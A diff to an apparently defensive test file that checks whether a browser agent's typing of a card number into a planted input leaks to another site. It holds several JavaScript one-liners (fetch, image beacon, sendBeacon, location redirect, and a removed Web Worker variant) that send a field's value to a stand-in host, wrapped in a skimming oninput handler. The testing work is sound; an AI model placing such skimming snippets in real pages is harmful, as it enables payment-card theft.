@@ -126,8 +126,6 @@ WAYS = {
     "in JSON": "fetch('OTHER/log', {method: 'POST', body: JSON.stringify({v: V})})",
     "by a picture": "new Image().src = 'OTHER/log?d=' + V",
     "by a beacon": "navigator.sendBeacon('OTHER/log', V)",
-    "by a worker": "new Worker(URL.createObjectURL(new Blob(["
-    "`fetch('OTHER/log', {method: 'POST', mode: 'no-cors', body: ${JSON.stringify(V)}})`])))",
     "by a page": "location = 'OTHER/log?d=' + V",
 }
 
@@ -142,7 +140,7 @@ WAYS = {
 async def test_a_card_number_does_not_go_to_another_site(shop: Shop, way: str) -> None:
     script = f"if (this.value.length === {len(CARD)}) {WAYS[way].replace('V', 'this.value')}"
     await shop.show(f'<input aria-label=Card autocomplete=cc-number oninput="{_quoted(script)}">')
-    # A worker may take longer to begin than the act to end: it is asked about all the same.
+    # It may be sent after the end of the act: it is asked about all the same.
     with suppress(ActionDenied):
         await shop.do("enter_text", mmid=await shop.only("textbox"), text=CARD)
     await _come(lambda: shop.here.events("approval.answered"))
